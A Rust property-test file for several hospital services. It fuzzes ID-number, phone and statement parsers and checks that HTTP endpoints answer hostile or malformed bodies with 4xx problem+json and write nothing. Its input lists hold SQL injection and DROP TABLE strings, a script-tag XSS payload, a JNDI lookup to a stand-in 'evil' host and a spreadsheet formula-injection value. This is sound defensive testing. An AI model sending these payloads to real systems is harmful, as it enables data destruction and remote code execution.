//! Bad input, generated: the parsers that had no property test yet (resident
//! ID numbers, phones, masking, channel statement files) never panic and
//! refuse what is wrong; and every request body parser of card-issuing,
//! slot-inventory and channel-accounting, fed random bytes, wrong content
//! types, invalid UTF-8, huge numbers and SQL/script injection strings,
//! answers 4xx problem+json (never a 500) and writes nothing.

#![expect(clippy::unwrap_used, reason = "test helpers: a failure is a failed test")]

use std::collections::BTreeMap;

use card_issuing::identity::{Phone, ResidentId, id_check_char, mask_id_number, mask_phone};
use channel_accounting::error::AccountingError;
use channel_accounting::reconcile::{HEADER, parse_statement};
use chrono::NaiveDate;
use jyt_system_tests::{TestHospital, spawn_accounting, spawn_cards};
use proptest::prelude::*;
use uuid::Uuid;

fn today() -> NaiveDate {
    jyt_domain::time::today()
}

/// A valid 18-character resident ID number.
fn valid_id() -> impl Strategy<Value = String> {
    ("[1-8][0-9]{5}", 0i64..40_000, "[0-9]{3}").prop_map(|(region, day, seq)| {
        let birth = NaiveDate::from_ymd_opt(1910, 1, 1).unwrap() + chrono::Duration::days(day);
        let first17 = format!("{region}{}{seq}", birth.format("%Y%m%d"));
        let check = id_check_char(first17.as_bytes()).unwrap();
        format!("{first17}{}", char::from(check))
    })
}

/// Values no field of any request accepts.
fn nasty() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("\"' OR 1=1 --\"".to_owned()),
        Just("\"'); DROP TABLE bookings; --\"".to_owned()),
        Just("\"<script>alert(1)</script>\"".to_owned()),
        Just("\"${jndi:ldap://evil/x}\"".to_owned()),
        Just("\"=cmd|' /C calc'!A0\"".to_owned()),
        Just("\"\\u0000\"".to_owned()),
        Just("1e400".to_owned()),
        Just("-1".to_owned()),
        Just("99999999999999999999999999".to_owned()),
        Just("9223372036854775808".to_owned()),
        Just("1.5".to_owned()),
        Just("[]".to_owned()),
        Just("{}".to_owned()),
        Just("null".to_owned()),
        Just("\"\"".to_owned()),
        Just(format!("\"{}\"", "𝕏".repeat(3000))),
        "[a-zA-Z0-9 ;'<>()=-]{0,20}".prop_map(|s| format!("\"x{s}'--\"")),
    ]
}

/// A body: random bytes, JSON with invalid UTF-8, or a JSON object whose
/// every field (of the endpoint's own) holds a nasty value.
fn body(fields: &'static [&'static str]) -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        proptest::collection::vec(any::<u8>(), 0..300),
        Just(b"{\"name\": \"\xff\xfe\xfd\"}".to_vec()),
        Just(b"{\"slot_id\": \"a-\xc3\x28\"}".to_vec()),
        proptest::collection::vec(nasty(), fields.len()).prop_map(move |values| {
            let pairs: Vec<String> = fields
                .iter()
                .zip(values)
                .map(|(k, v)| format!("\"{k}\": {v}"))
                .collect();
            format!("{{{}}}", pairs.join(", ")).into_bytes()
        }),
    ]
}

fn content_type() -> impl Strategy<Value = Option<&'static str>> {
    prop_oneof![
        4 => Just(Some("application/json")),
        1 => Just(Some("text/plain")),
        1 => Just(Some("application/x-www-form-urlencoded")),
        1 => Just(Some("application/json; charset=utf-16")),
        1 => Just(None),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn the_id_number_parser_never_panics_on_any_text(s in "\\PC{0,40}") {
        let _ = ResidentId::parse(&s, today());
    }

    #[test]
    fn the_id_number_parser_never_panics_on_id_shaped_text(s in "[0-9xX \u{4e00}é]{14,19}") {
        if let Ok(id) = ResidentId::parse(&s, today()) {
            prop_assert_eq!(id.expose().len(), 18);
            prop_assert!(id.birth_date() <= today());
        }
    }

    #[test]
    fn a_valid_id_number_parses_and_any_one_changed_digit_is_refused(id in valid_id(), at in 0usize..17, delta in 1u8..10) {
        let parsed = ResidentId::parse(&id, today()).unwrap();
        prop_assert_eq!(parsed.expose(), id.as_str());
        let mut bytes = id.clone().into_bytes();
        bytes[at] = b'0' + (bytes[at] - b'0' + delta) % 10;
        let changed = String::from_utf8(bytes).unwrap();
        prop_assert!(ResidentId::parse(&changed, today()).is_err(), "{} accepted", changed);
        // Masked, only the region and the last four show.
        let masked = parsed.masked();
        prop_assert_eq!(&masked[..6], &id[..6]);
        prop_assert_eq!(&masked[6..14], "********");
        prop_assert_eq!(format!("{parsed:?}").contains(&id[6..14]), false);
    }

    #[test]
    fn the_phone_parser_and_masks_never_panic(s in "\\PC{0,30}") {
        if let Some(p) = Phone::parse(&s) {
            let _ = p;
        }
        let m = mask_phone(&s);
        prop_assert_eq!(m.chars().count(), s.chars().count());
        let _ = mask_id_number(&s);
    }

    #[test]
    fn a_masked_phone_hides_its_middle(p in "1[3-9][0-9]{9}") {
        let m = mask_phone(&p);
        // Exactly the first three and last four digits show. (The middle
        // four may also occur among them, e.g. 130-8255-8255, so "the
        // middle does not occur in the mask" would be a wrong test.)
        prop_assert_eq!(m, format!("{}****{}", &p[..3], &p[7..]));
    }

    #[test]
    fn the_statement_parser_never_panics_on_any_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        match parse_statement(&bytes) {
            Ok(_) | Err(AccountingError::StatementMalformed { .. }) => {}
            Err(other) => prop_assert!(false, "unexpected error {other:?}"),
        }
    }

    #[test]
    fn a_statement_line_with_a_bad_field_is_refused_naming_its_line(
        good in 0usize..4,
        field in 0usize..6,
        bad in prop_oneof![
            Just("99999999999999999999999"), Just("-5"), Just("1.5"), Just(""), Just("' OR 1=1 --"),
            Just("<script>alert(1)</script>"), Just("=cmd|' /C calc'!A0"), Just("2026-13-45 25:61:61"),
        ],
    ) {
        let ok = "2026-11-30 08:31:02,wx-1,pumch-0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b,10000,paid,0";
        let mut lines = vec![HEADER.join(",")];
        for i in 0..good {
            lines.push(ok.replace("wx-1", &format!("wx-{i}")));
        }
        let mut fields: Vec<String> = ok.replace("wx-1", "wx-bad").split(',').map(str::to_owned).collect();
        // Fields where any text is allowed cannot be "bad" with text.
        let accepts_text = field == 1 || field == 2;
        fields[field] = bad.to_owned();
        lines.push(fields.join(","));
        let parsed = parse_statement(lines.join("\n").as_bytes());
        if accepts_text && !bad.is_empty() {
            // Stored as text, never interpreted.
            let fine = parsed.is_ok() || matches!(parsed, Err(AccountingError::StatementMalformed { .. }));
            prop_assert!(fine, "{:?}", parsed);
        } else if field == 2 && bad.is_empty() {
            // An order id may be missing (a channel's own sale).
        } else {
            match parsed {
                Err(AccountingError::StatementMalformed { line, .. }) => prop_assert_eq!(line, u64::try_from(good + 2).unwrap()),
                other => prop_assert!(false, "accepted {:?}: {:?}", fields, other),
            }
        }
    }
}

/// Rows per table: "nothing written" is every count unchanged.
async fn row_counts(database_url: &str) -> BTreeMap<String, i64> {
    let (client, conn) = jyt_db::tokio_postgres::connect(database_url, jyt_db::tokio_postgres::NoTls)
        .await
        .unwrap();
    tokio::spawn(conn);
    let tables: Vec<String> = client
        .query(
            "SELECT table_name::text FROM information_schema.tables
              WHERE table_schema = 'public' AND table_type = 'BASE TABLE'",
            &[],
        )
        .await
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    let mut counts = BTreeMap::new();
    for t in tables {
        let n: i64 = client
            .query_one(&format!("SELECT count(*) FROM \"{t}\""), &[])
            .await
            .unwrap()
            .get(0);
        counts.insert(t, n);
    }
    counts
}

struct Target {
    name: &'static str,
    method: reqwest::Method,
    url: String,
    fields: &'static [&'static str],
    bearer: Option<String>,
}

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "one scenario, step by step: split, it would read worse"
)]
fn every_request_body_parser_answers_bad_input_with_4xx_problem_json_and_writes_nothing() {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let prefix = jyt_testkit::fresh_redis_prefix();
    let (cards, hospital, (accounting_url, accounting_db, token)) = rt.block_on(async {
        let cards = spawn_cards(&prefix).await;
        let h = TestHospital::spawn("badin", &prefix).await;
        h.seed_visit_day(5).await;
        (cards, h, spawn_accounting(&prefix).await)
    });
    let (c, s) = (cards.base_url.clone(), hospital.base_url.clone());
    let some = Uuid::now_v7();
    let targets = vec![
        Target {
            name: "register",
            method: reqwest::Method::POST,
            url: format!("{c}/v1/persons"),
            fields: &["name", "id_number", "phone"],
            bearer: None,
        },
        Target {
            name: "search",
            method: reqwest::Method::POST,
            url: format!("{c}/v1/persons/search"),
            fields: &["id_number"],
            bearer: None,
        },
        Target {
            name: "card",
            method: reqwest::Method::POST,
            url: format!("{c}/v1/persons/{some}/cards"),
            fields: &["kind", "channel"],
            bearer: None,
        },
        Target {
            name: "top-up",
            method: reqwest::Method::POST,
            url: format!("{c}/v1/cards/{some}/top-ups"),
            fields: &["amount_fen", "channel", "channel_ref"],
            bearer: None,
        },
        Target {
            name: "family",
            method: reqwest::Method::POST,
            url: format!("{c}/v1/persons/{some}/family"),
            fields: &["member_id", "relationship", "guardian_proof_ref"],
            bearer: None,
        },
        Target {
            name: "resolve",
            method: reqwest::Method::POST,
            url: format!("{c}/v1/cards/resolve"),
            fields: &["card_number", "ecard_token"],
            bearer: None,
        },
        Target {
            name: "resolve many",
            method: reqwest::Method::POST,
            url: format!("{c}/v1/cards/resolve-many"),
            fields: &["card_numbers"],
            bearer: None,
        },
        Target {
            name: "book",
            method: reqwest::Method::POST,
            url: format!("{s}/v1/bookings"),
            fields: &["slot_id", "patient_id", "channel", "referral_id"],
            bearer: None,
        },
        Target {
            name: "confirm",
            method: reqwest::Method::POST,
            url: format!("{s}/v1/bookings/badin-{some}/confirm"),
            fields: &["payment_reference", "payment_method"],
            bearer: None,
        },
        Target {
            name: "cancel",
            method: reqwest::Method::POST,
            url: format!("{s}/v1/bookings/badin-{some}/cancel"),
            fields: &["patient_id"],
            bearer: None,
        },
        Target {
            name: "waitlist",
            method: reqwest::Method::POST,
            url: format!("{s}/v1/schedules/{some}/waitlist"),
            fields: &["patient_id", "channel"],
            bearer: None,
        },
        Target {
            name: "capacity",
            method: reqwest::Method::PUT,
            url: format!("{s}/v1/segments/{some}/capacity"),
            fields: &["capacity"],
            bearer: None,
        },
        Target {
            name: "login",
            method: reqwest::Method::POST,
            url: format!("{accounting_url}/v1/operators/login"),
            fields: &["login", "password"],
            bearer: None,
        },
        Target {
            name: "statement",
            method: reqwest::Method::POST,
            url: format!("{accounting_url}/v1/reconciliation/statements?channel=wechat&date=2026-11-30"),
            fields: &["trade_time"],
            bearer: Some(token.clone()),
        },
    ];
    let databases = [
        cards.database_url.clone(),
        hospital.database_url.clone(),
        accounting_db.clone(),
    ];
    let before: Vec<_> = rt.block_on(async {
        let mut all = Vec::new();
        for d in &databases {
            all.push(row_counts(d).await);
        }
        all
    });

    // card-issuing and the hospital answer only internal callers: the
    // fuzzing is of their input checks, so it carries their tokens.
    let (cards_http, hospital_http, http) = (cards.http.clone(), hospital.http(), reqwest::Client::new());
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
        cases: 300,
        ..ProptestConfig::default()
    });
    let strategy = (0..targets.len(), content_type(), any::<bool>(), any::<u64>()).prop_flat_map(
        |(t, ct, key, seed)| {
            (
                Just(t),
                Just(ct),
                Just(key),
                Just(seed),
                body(&[
                    "name",
                    "id_number",
                    "phone",
                    "slot_id",
                    "patient_id",
                    "channel",
                    "amount_fen",
                    "capacity",
                ]),
            )
        },
    );
    runner
        .run(&strategy, |(t, ct, with_key, seed, generic)| {
            let target = &targets[t];
            let outcome = rt.block_on(async {
                // The endpoint's own fields when the seed says so, else the generic body.
                let body = if seed % 2 == 0 {
                    let values: Vec<String> = target
                        .fields
                        .iter()
                        .enumerate()
                        .map(|(i, k)| {
                            let v = NASTY_FIXED
                                [(usize::try_from(seed >> 1).unwrap_or(0) + i * 7) % NASTY_FIXED.len()];
                            format!("\"{k}\": {v}")
                        })
                        .collect();
                    format!("{{{}}}", values.join(", ")).into_bytes()
                } else {
                    generic.clone()
                };
                let client = if target.url.starts_with(&c) {
                    &cards_http
                } else if target.url.starts_with(&s) {
                    &hospital_http
                } else {
                    &http
                };
                let mut req = client
                    .request(target.method.clone(), &target.url)
                    .body(body.clone());
                let ct = if target.name == "statement" && seed % 3 == 0 {
                    Some("text/csv")
                } else {
                    ct
                };
                if let Some(ct) = ct {
                    req = req.header("content-type", ct);
                }
                if with_key {
                    req = req.header("Idempotency-Key", format!("k{seed}"));
                }
                if let Some(b) = &target.bearer {
                    req = req.bearer_auth(b);
                }
                let res = req.send().await.unwrap();
                let status = res.status().as_u16();
                let ctype = res
                    .headers()
                    .get("content-type")
                    .and_then(|v| v.to_str().ok())
                    .unwrap_or("")
                    .to_owned();
                let text = res.text().await.unwrap_or_default();
                (
                    status,
                    ctype,
                    text,
                    String::from_utf8_lossy(&body)
                        .chars()
                        .take(200)
                        .collect::<String>(),
                )
            });
            let (status, ctype, text, sent) = outcome;
            prop_assert!(
                (400..500).contains(&status),
                "{} answered {} to {:?}: {}",
                target.name,
                status,
                sent,
                text
            );
            prop_assert_eq!(
                ctype.as_str(),
                "application/problem+json",
                "{} {}: {}",
                target.name,
                status,
                text
            );
            Ok(())
        })
        .unwrap();

    // An oversized body, on each service (JSON refused from its declared
    // length, the statement upload while it streams): every one answered
    // 413 problem+json BODY_TOO_LARGE, and nothing written. A transport
    // error is a failure too: actix answers early and then reads the rest
    // of the body before closing, so a client always gets the answer.
    rt.block_on(async {
        let before_huge = {
            let mut all = Vec::new();
            for d in &databases {
                all.push(row_counts(d).await);
            }
            all
        };
        let huge = vec![b'a'; 2 * 1024 * 1024];
        let statement =
            format!("{accounting_url}/v1/reconciliation/statements?channel=wechat&date=2026-11-30");
        // Each with the caller the service admits, so that the size is what
        // is refused (not the caller).
        for (client, url, content_type, operator) in [
            (&cards_http, format!("{c}/v1/persons"), "application/json", false),
            (
                &hospital_http,
                format!("{s}/v1/bookings"),
                "application/json",
                false,
            ),
            (
                &http,
                format!("{accounting_url}/v1/operators/login"),
                "application/json",
                false,
            ),
            (&http, statement, "text/csv", true),
        ] {
            let mut req = client
                .post(&url)
                .header("content-type", content_type)
                .header("Idempotency-Key", "huge")
                .body(huge.clone());
            if operator {
                req = req.bearer_auth(&token);
            }
            let res = req
                .send()
                .await
                .unwrap_or_else(|e| panic!("{url}: no answer to an oversized body: {e}"));
            assert_eq!(res.status().as_u16(), 413, "{url}");
            let ctype = res
                .headers()
                .get("content-type")
                .and_then(|v| v.to_str().ok())
                .unwrap_or("")
                .to_owned();
            assert_eq!(ctype, "application/problem+json", "{url}");
            let problem: serde_json::Value = res.json().await.unwrap();
            assert_eq!(problem["code"], "BODY_TOO_LARGE", "{url}: {problem}");
            assert_eq!(problem["status"], 413, "{url}: {problem}");
        }
        let after_huge = {
            let mut all = Vec::new();
            for d in &databases {
                all.push(row_counts(d).await);
            }
            all
        };
        assert_eq!(before_huge, after_huge, "an oversized body wrote nothing");
        let after = {
            let mut all = Vec::new();
            for d in &databases {
                all.push(row_counts(d).await);
            }
            all
        };
        assert_eq!(before, after, "bad input wrote nothing");
    });
}

/// The endpoint-shaped bodies' values (raw JSON).
const NASTY_FIXED: &[&str] = &[
    "\"' OR 1=1 --\"",
    "\"'); DROP TABLE persons; --\"",
    "\"<script>alert(1)</script>\"",
    "\"${jndi:ldap://evil/x}\"",
    "1e400",
    "-1",
    "99999999999999999999999999",
    "9223372036854775808",
    "1.5",
    "[]",
    "{}",
    "null",
    "\"\"",
    "\"\\u0000\"",
    "\"\\ud800\"",
    "true",
];
